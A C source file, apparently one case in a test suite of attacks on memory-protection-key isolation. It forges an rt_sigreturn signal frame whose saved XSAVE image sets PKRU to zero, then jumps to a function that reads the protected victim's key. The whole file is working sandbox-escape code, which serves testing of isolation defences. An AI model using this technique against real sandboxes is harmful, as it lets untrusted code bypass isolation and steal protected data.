// SPDX-License-Identifier: Apache-2.0 WITH LLVM-exception
//
// A5: a forged signal frame. rt_sigreturn takes PKRU from memory that the attacker wrote.
#include "evil.h"
#include "evil_asm.h"
#include "xstate.h"

#include <stdlib.h>
#include <string.h>
#include <ucontext.h>

static const struct evil_target *victim;
static _Alignas(64) unsigned char image[16384];
static _Alignas(16) unsigned char stack[65536];

static void landed(void) {
    exit(evil_got(victim, victim->key, "a forged rt_sigreturn"));
}

// The tile registers of AMX are never in a frame unless a process asked for them.
#define XSTATE_TILES (UINT64_C(3) << 17)

// Bytes of a standard-format image with these components.
static uint32_t image_size(uint64_t mask) {
    uint32_t end = 576;

    for (int component = 2; component < 63; component++) {
        uint32_t size = 0;
        uint32_t at = xstate_offset(component, &size);

        if ((mask >> component & 1) != 0 && at + size > end)
            end = at + size;
    }
    return end;
}

int evil_sigreturn(const struct evil_target *target) {
    static ucontext_t context;
    uint64_t mask = evil_xgetbv() & ~XSTATE_TILES;
    uint32_t size = image_size(mask);
    uint32_t magic1 = XSTATE_MAGIC1;
    uint32_t magic2 = XSTATE_MAGIC2;
    uint32_t extended = size + (uint32_t)sizeof magic2;

    victim = target;
    evil_xsave(image, mask);
    xstate_set_pkru(image, 0);
    memcpy(image + XSTATE_SW_AT, &magic1, 4);
    memcpy(image + XSTATE_SW_AT + 4, &extended, 4);
    memcpy(image + XSTATE_SW_AT + 8, &mask, 8);
    memcpy(image + XSTATE_SW_AT + 16, &size, 4);
    memcpy(image + size, &magic2, 4);

    getcontext(&context);
    context.uc_flags = 1; // UC_FP_XSTATE
    context.uc_mcontext.fpregs = (void *)image;
    context.uc_mcontext.gregs[REG_RIP] = (greg_t)(uintptr_t)landed;
    context.uc_mcontext.gregs[REG_RSP] = (greg_t)(uintptr_t)(stack + sizeof stack - 8);
    context.uc_mcontext.gregs[REG_EFL] = 0x202;
    context.uc_mcontext.gregs[REG_CSGSFS] = 0x002b000000000033;
    evil_sigreturn_at(&context);
}
